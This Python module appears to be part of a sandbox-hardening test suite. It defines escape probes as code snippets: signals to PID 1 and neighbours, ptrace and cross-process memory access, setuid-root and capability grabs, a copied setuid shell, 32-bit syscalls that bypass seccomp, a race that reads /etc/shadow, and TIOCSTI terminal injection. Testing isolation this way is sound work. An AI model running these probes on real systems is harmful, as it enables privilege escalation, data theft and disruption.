"""Laying hands on other processes: signals, tracing, priorities, identities."""

from __future__ import annotations

from attacks.escapes.escape import Escape

PROCESSES = {
    "signals": Escape(
        "kills, stops and interrupts the worker, the pool, a neighbour and everybody",
        """
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
    for pid in (1, 2, 3, int(POOL), int(VICTIM), os.getppid()):
        if pid not in (0, os.getpid()):
            try: os.kill(pid, number)
            except OSError: pass
            try: os.killpg(pid, number)
            except OSError: pass
signal.signal(signal.SIGTERM, signal.SIG_IGN)
try: os.kill(-1, signal.SIGTERM)
except OSError: pass
time.sleep(0.05)
print("still here")
""",
        flag="signals",
    ),
    "signals by descriptor": Escape(
        "through pidfds, threads, real-time queues and the owner of a pipe",
        """
import fcntl
for pid in (1, int(POOL), int(VICTIM)):
    if pid == os.getpid(): continue
    try: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL) if pid != 1 else None
    except OSError: pass
    try: signal.pidfd_send_signal(os.open(f"/proc/{pid}", os.O_RDONLY), signal.SIGKILL)
    except OSError: pass
    for name, args in (("tkill", (pid, 9)), ("tgkill", (pid, pid, 9)), ("rt_sigqueueinfo", (pid, 9, bytes(128)))):
        try: call(name, *args)
        except (OSError, KeyError): pass
reading, writing = os.pipe()
for pid in (int(POOL), -int(POOL), int(VICTIM), -int(VICTIM)):
    try:
        fcntl.fcntl(reading, fcntl.F_SETOWN, pid); fcntl.fcntl(reading, 10, int(signal.SIGKILL))
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC); os.write(writing, b"x")
    except OSError: pass
""",
    ),
    "tracing": Escape(
        "ptrace of its parent, a neighbour, and to be traced by its parent",
        """
for pid in (1, 2, os.getppid(), int(POOL), int(VICTIM)):
    for request in (16, 0x4206):
        steal(lambda: call("ptrace", request, pid, 0, 0))
steal(lambda: call("ptrace", 0, 0, 0, 0))
""",
        flag="ptrace",
    ),
    "memory of others": Escape(
        "process_vm_readv, kcmp, pidfd_getfd, process_madvise and moving pages",
        """
into = ctypes.create_string_buffer(64)
vector = struct.pack("PN", ctypes.addressof(into), 64)
for pid in (1, os.getppid(), int(POOL), int(VICTIM)):
    steal(lambda: call("process_vm_readv", pid, vector, 1, struct.pack("PN", 0x400000, 64), 1, 0))
    steal(lambda: call("process_vm_writev", pid, vector, 1, struct.pack("PN", 0x400000, 64), 1, 0))
    steal(lambda: call("move_pages", pid, 0, 0, 0, 0, 0)); steal(lambda: call("kcmp", pid, os.getpid(), 2, 0, 0))
steal(lambda: call("pidfd_getfd", os.pidfd_open(os.getpid()), 0, 0))
""",
        flag="ptrace",
    ),
    "priorities": Escape(
        "runs before everybody: nice, real time, deadlines, processor cookies, input and output",
        """
import resource
steal(lambda: os.nice(-5) < 0)
for policy in (os.SCHED_FIFO, os.SCHED_RR):
    steal(lambda: os.sched_setscheduler(0, policy, os.sched_param(50)) is None)
for pid in (1, int(POOL), int(VICTIM)):
    if pid != os.getpid() and pid != 1:
        steal(lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) is None)
        steal(lambda: os.sched_setaffinity(pid, {0}) is None)
        steal(lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)))
if libc.prctl(62, 1, 0, 0, 0) == 0: got("a processor's sibling")
steal(lambda: call("ioprio_set", 1, 0, (1 << 13) | 0))
""",
    ),
    "limits": Escape(
        "raises its own limits, hard ones too",
        """
import resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        what = getattr(resource, name)
        soft, hard = resource.getrlimit(what)
        if hard == -1: continue
        for bound in ((hard + 1, hard + 1), (-1, -1), (soft, -1)):
            steal(lambda: resource.setrlimit(what, bound) or resource.getrlimit(what)[1] > hard or resource.getrlimit(what)[1] == -1)
""",
    ),
    "identities": Escape(
        "becomes root by every call that there is",
        """
for go in (lambda: os.setuid(0), lambda: os.seteuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    if os.getuid(): steal(lambda: go() is None)
for go in (lambda: os.setuid(1), lambda: os.setgid(1), lambda: os.setgroups([1])):
    steal(lambda: go() is None)
header = struct.pack("Ii", 0x20080522, 0)
steal(lambda: call("capset", header, b"\\xff" * 24))
for option in (8, 23, 24, 28, 38, 47):
    for value in (0, 1, 2, 21):
        if option in (28, 47) and libc.prctl(option, value, 21, 0, 0) == 0 and value == 2: got(option)
if libc.prctl(39, 0, 0, 0, 0) != 1: got("new privileges")
""",
    ),
    "setuid programs": Escape(
        "programs that are root to everybody: su, mount, newuidmap, sudo, pkexec",
        """
for program in su sudo mount umount newuidmap newgidmap pkexec passwd chsh fusermount3 unshare nsenter chroot; do
  command -v $program >/dev/null || continue
  case $program in
    su|sudo|pkexec) out=$($program -c id </dev/null 2>/dev/null || $program id </dev/null 2>/dev/null);;
    mount) out=$(mount -t tmpfs none /tmp 2>/dev/null && echo mounted);;
    umount) out=$(umount /proc 2>/dev/null && echo gone);;
    unshare) out=$(unshare -Ur id -u 2>/dev/null);;
    nsenter) out=$(nsenter -t 1 -a id 2>/dev/null);;
    chroot) out=$(chroot /tmp /bin/true 2>/dev/null && echo rooted);;
    new*idmap) out=$($program $$ 0 0 1 2>/dev/null && echo mapped);;
    *) out="";;
  esac
  [ -n "$out" ] && echo "GOT $program $out"
done
cp /bin/sh ./rootsh && chmod 4755 ./rootsh && [ "$(./rootsh -p -c 'id -u')" = 0 ] && echo "GOT a shell"
true
""",
        language="shell",
        modes=("argv",),
        flag="",
    ),
    "its own setuid program": Escape(
        "makes a program setuid and setgid, and gives it capabilities",
        """
import shutil, subprocess
shutil.copy("/bin/true", "/box/t"); os.chmod("/box/t", 0o6755)
steal(lambda: os.chown("/box/t", 0, 0) is None)
steal(lambda: os.setxattr("/box/t", "security.capability", struct.pack("<IIIII", 0x2000001, 0xffffffff, 0, 0, 0)) is None)
""",
    ),
    "the first process": Escape(
        "weakens the process that reports on it: limits, priority, signals, until it says something else",
        """
import resource
if os.getpid() != 1:
    for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_AS, resource.RLIMIT_STACK):
        try: resource.prlimit(1, what, (0, 0))
        except OSError: pass
    for number in range(1, 65):
        try: os.kill(1, number)
        except OSError: pass
time.sleep(0.05)
print("still here", flush=True)
""",
        modes=("argv",),
    ),
    "core dumps": Escape(
        "has the host's crash handler started, with a memory image of its making",
        """
import resource
for bound in ((0, 1), (0, 0), (1, 1)):
    try: resource.setrlimit(resource.RLIMIT_CORE, bound)
    except (OSError, ValueError): pass
    try: resource.prlimit(os.getpid(), resource.RLIMIT_CORE, bound)
    except (OSError, ValueError): pass
if resource.getrlimit(resource.RLIMIT_CORE)[0] != 1: got("a limit under which the crash handler runs")
if os.fork() == 0: os.abort()
os.wait()
print(os.listdir("/box"))
""",
    ),
    "another personality": Escape(
        "personalities that switch protections off, and machine code of other machines",
        """
for persona in (0x0040000, 0x0400000, 8, 0x0008 | 0x0100000): steal(lambda: call("personality", persona))
steal(lambda: libc.syscall(ctypes.c_long(0x40000000 | 39)) > 0)
steal(lambda: libc.syscall(ctypes.c_long(0x40000000 | 101), 16, 1, 0, 0) >= 0)
""",
    ),
    "calls of another machine": Escape(
        "numbers of 32-bit system calls, which a filter for 64 bits does not mean",
        """
#include <stdio.h>
int main(void) {
#if defined(__x86_64__)
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory");
  printf("GOT %ld\\n", result);
#endif
  return 0;
}
""",
        language="c",
        modes=("argv",),
    ),
    "filters of its own": Escape(
        "a seccomp listener of its own over calls that are refused, to wave them through",
        """
#define _GNU_SOURCE
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
  struct sock_filter code[] = {{0x06, 0, 0, 0x7fc00000}};
  struct sock_fprog program = {1, code};
  long listener = syscall(SYS_seccomp, 1, 8, &program);
  if (listener >= 0) printf("GOT %ld\\n", listener);
  struct sock_filter allow[] = {{0x06, 0, 0, 0x7fff0000}};
  program.filter = allow;
  syscall(SYS_seccomp, 1, 0, &program);
  if (syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, 0) == 0) puts("GOT mount");
  return 0;
}
""",
        language="c",
        modes=("argv",),
        flag="mount",
    ),
    "races of vfork": Escape(
        "children that share its memory, and change it while the parent is in a call",
        """
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
#include <fcntl.h>
static char path[64] = "/box/harmless";
static volatile int going = 1;
static void *flip(void *unused) {
  while (going) { strcpy(path, "/etc/shadow"); strcpy(path, "/box/harmless"); strcpy(path, "/proc/1/environ"); }
  return unused;
}
int main(void) {
  pthread_t thread;
  char data[64];
  pthread_create(&thread, 0, flip, 0);
  close(open("/box/harmless", O_CREAT | O_WRONLY, 0644));
  for (int i = 0; i < 100000; i++) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    if (read(fd, data, sizeof data) > 0) puts("GOT bytes");
    close(fd);
  }
  going = 0;
  if (vfork() == 0) { execl("/bin/cat", "cat", path, (char *)0); _exit(1); }
  wait(0);
  return 0;
}
""",
        language="c",
        modes=("argv",),
    ),
    "the terminal": Escape(
        "puts words into the terminal that the sandbox was started from",
        """
import fcntl, termios
for descriptor in (0, 1, 2):
    for request in (termios.TIOCSTI, 0x541C, termios.TIOCSCTTY, 0x5432):
        steal(lambda: fcntl.ioctl(descriptor, request, b"x") is not None)
    steal(lambda: fcntl.ioctl(descriptor, (0xdead << 32 | termios.TIOCSTI) & 0xffffffff, b"x") is not None)
steal(lambda: os.open("/dev/tty", os.O_RDWR)); steal(lambda: os.open("/dev/ptmx", os.O_RDWR)); steal(lambda: os.open("/dev/console", os.O_RDWR))
""",
    ),
}
